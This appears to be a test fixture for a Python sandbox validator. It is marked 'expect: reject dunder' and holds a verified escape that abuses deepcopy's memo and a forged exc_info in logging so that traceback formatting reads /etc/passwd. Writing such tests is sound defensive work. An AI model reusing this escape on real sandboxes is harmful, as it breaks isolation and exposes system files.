# expect: reject dunder
# line: 57
# verified: reaches its goal under plain python3 (3.11.7) in a temp dir
# why: R through C with the C_04 answer: a handler's own emit deep-copies the real
#   record, the args' Spy answers __deepcopy__ with SEEN.append, and the record's
#   original __dict__ is found in the memo and given a forged exc_info (methodcaller);
#   OUT.handle(record) formats it and linecache opens co_filename. Tb and Frame
#   answer their names behind the guard (they are no copy hooks): only Spy's
#   __getattr__, the memo door, is refused
# Goal reached: /etc/passwd read
# Output under python3:
#   hello <__main__.Spy object at 0x...>
#   Traceback (most recent call last):
#     File "/etc/passwd", line 1, in pwned
#       root:x:0:0:root:/root:/bin/bash
#   ValueError: v

import copy
import logging
import operator
import sys

SEEN = []


class Code:
    def __init__(self):
        self.co_filename = "/etc/passwd"
        self.co_name = "pwned"


class Frame:
    def __getattr__(self, name):
        if name.startswith("_"):
            raise AttributeError(name)
        if name.endswith("code"):
            return Code()
        if name.endswith("globals"):
            return {}
        return None


class Tb:
    def __getattr__(self, name):
        if name.startswith("_"):
            raise AttributeError(name)
        if name.endswith("frame"):
            return Frame()
        if name.endswith("lasti"):
            return -1
        if name.endswith("lineno"):
            return 1
        return None


class Spy:
    def __getattr__(self, name):
        if name.startswith("__"):
            return SEEN.append
        raise AttributeError(name)


OUT = logging.StreamHandler(sys.stdout)


class Relay(logging.Handler):
    def emit(self, record):
        try:
            copy.deepcopy(record)
        except TypeError:
            pass
        for value in SEEN[0].values():
            if isinstance(value, list):
                for item in value:
                    if isinstance(item, dict) and "levelname" in item and "args" in item:
                        operator.methodcaller("update", {"exc_info": (ValueError, ValueError("v"), Tb())})(item)
        OUT.handle(record)


log = logging.getLogger("r9")
log.addHandler(Relay())
log.warning("hello %s", Spy())
